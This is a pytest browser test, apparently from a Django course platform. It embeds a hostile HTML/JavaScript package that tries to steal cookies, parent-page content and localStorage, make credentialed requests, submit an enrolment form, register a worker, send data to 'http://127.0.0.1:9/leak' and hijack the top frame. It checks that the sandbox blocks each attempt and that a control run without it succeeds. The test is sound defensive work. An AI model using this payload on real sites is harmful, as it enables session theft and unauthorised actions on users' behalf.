"""What a hostile package tries in a learner's browser. A second run without our walls proves that each attempt is a real one."""

import json

import pytest

from courses.models import Enrolment
from participants import identity
from tests.courses import trees
from tests.courses.packages import building

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SITE = "__SITE__"
HOSTILE = """<!doctype html><title>Evil</title><body><pre id="said"></pre>
<form id="form" method="post" target="sink" action="__SITE__/en/learn/courses/__COURSE__/enrol/"></form>
<iframe name="sink" id="sink"></iframe>
<script>
const site = "__SITE__", found = {};
const attempt = async (name, deed) => {
  try { found[name] = await Promise.race([deed(), new Promise((done) => setTimeout(done, 800, "nothing"))]); }
  catch (error) { found[name] = "blocked"; }
};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
(async () => {
  await attempt("cookie", () => document.cookie.includes("sessionid") || document.cookie.includes("visible") ? "stolen" : "blocked");
  await attempt("page above", () => top.document.body.textContent ? "stolen" : "nothing");
  await attempt("storage above", () => top.localStorage.getItem("secret"));
  await attempt("page by fetch", async () => (await (await fetch(site + "/en/learn/", {credentials: "include"})).text()).length > 9 ? "stolen" : "x");
  await attempt("blind request", async () => { await fetch(site + "/en/learn/?blind", {mode: "no-cors", credentials: "include"}); return "sent"; });
  await attempt("beacon", () => { navigator.sendBeacon(site + "/en/learn/?beacon", "x"); return "asked"; });
  await attempt("picture", () => new Promise((done) => { const one = new Image(); one.onload = () => done("loaded"); one.onerror = () => done("blocked"); one.src = site + "/static/oberih/ui/mark.svg"; }));
  await attempt("page in a frame", () => new Promise((done) => {
    const one = document.createElement("iframe");
    one.onload = () => { try { done(one.contentDocument.body.textContent.length > 9 ? "stolen" : "empty"); } catch { done("blocked"); } };
    one.src = site + "/en/learn/?framed"; document.body.append(one);
  }));
  await attempt("form", async () => { document.getElementById("form").submit(); await wait(400); return "sent"; });
  await attempt("worker", async () => { await navigator.serviceWorker.register("worker.js"); return "registered"; });
  await attempt("window", () => window.open(site + "/en/learn/?window") ? "opened" : "blocked");
  await attempt("other host", async () => { await fetch("http://127.0.0.1:9/leak", {mode: "no-cors"}); return "sent"; });
  await attempt("top", async () => { top.location = site + "/en/?hijacked"; await wait(400); return "taken"; });
  document.getElementById("said").textContent = JSON.stringify(found);
})();
</script>"""
QUIET = (
    "Content Security Policy",
    "Unsafe attempt",
    "Failed to",
    "Blocked",
    "Framing",
    "violates",
    "sandbox",
    "net::ERR",
    "403",
)


@pytest.fixture
def faults(faults):
    for text in ("other host: http://127.0.0.1:", *QUIET):
        faults.expect(text)
    return faults


@pytest.fixture
def world(site_tree, live_server):
    """A learner who is logged in, in a lesson with the hostile package, and a course that it would like to enrol them in."""
    index = trees.plant()
    _page, _module, _lessons = trees.course(index, lessons=1)
    from courses.models import Course

    course = Course.objects.get()
    page = HOSTILE.replace(SITE, live_server.url).replace("__COURSE__", str(course.key))
    package = building.upload(
        {**building.single_12(page=page), "worker.js": "self.addEventListener('fetch', () => {})"}
    )
    assert package.errors == []
    _page, lesson, enrolment = building.lesson_with(package, index)
    return course, lesson, enrolment, page


def let_in(page, enrolment, live_server):
    from django.contrib.sessions.backends.db import SessionStore

    session = SessionStore()
    session[identity._SESSION_KEY] = [str(enrolment.participant.uuid), enrolment.participant.link_version]
    session.save()
    page.context.add_cookies(
        [
            {"name": "sessionid", "value": session.session_key, "url": live_server.url, "httpOnly": True},
            {"name": "visible", "value": "1", "url": live_server.url},
        ]
    )
    page.goto("/en/learn/")
    page.evaluate("localStorage.setItem('secret', 'the secret')")


def test_a_hostile_package_gets_at_nothing(visitor, live_server, world):
    course, lesson, enrolment, _html = world
    page = visitor(workers=True)
    let_in(page, enrolment, live_server)
    asked = []
    page.on("response", lambda response: asked.append((response.url, response.frame.url)))
    address = f"{live_server.url}/en/learn/lessons/{lesson.key}/packages/{building.BLOCK}/"
    page.goto(address)
    said = page.frame_locator("iframe").frame_locator("iframe").locator("#said")
    said.filter(has_text="top").wait_for()
    found = json.loads(said.text_content())
    assert found == {
        "cookie": "blocked",
        "page above": "blocked",
        "storage above": "blocked",
        "page by fetch": "blocked",
        "blind request": "blocked",
        "beacon": "asked",
        "picture": "blocked",
        "page in a frame": "blocked",
        "form": "sent",
        "worker": "blocked",
        "window": "blocked",
        "other host": "blocked",
        "top": "blocked",
    }
    assert page.url == address
    # Whatever it believes to have sent: nothing of it left the browser.
    foreign = [
        url for url, frame in asked if not frame.startswith(live_server.url) and url.startswith(live_server.url)
    ]
    assert foreign == []
    assert not any(
        word in url
        for url, _frame in asked
        for word in ("blind", "beacon", "framed", "window", "hijacked", "leak")
    )
    assert Enrolment.objects.filter(course=course).count() == 0
    assert [one.url for one in page.context.service_workers if not one.url.startswith(live_server.url)] == []


def test_the_same_attempts_succeed_without_the_walls(visitor, live_server, world):
    """The control: the same page in the same frame, but on the site's own origin and without a policy."""
    _course, _lesson, enrolment, html = world
    page = visitor()
    let_in(page, enrolment, live_server)
    above = '<!doctype html><p>Above</p><iframe sandbox="allow-scripts allow-same-origin allow-forms" src="/evil"></iframe>'
    page.route("**/above", lambda route: route.fulfill(body=above, content_type="text/html"))
    page.route("**/evil", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto("/above")
    said = page.frame_locator("iframe").locator("#said")
    said.filter(has_text="top").wait_for()
    found = json.loads(said.text_content())
    assert {
        name: found[name] for name in ("cookie", "page above", "storage above", "page by fetch", "blind request")
    } == {
        "cookie": "stolen",
        "page above": "stolen",
        "storage above": "the secret",
        "page by fetch": "stolen",
        "blind request": "sent",
    }
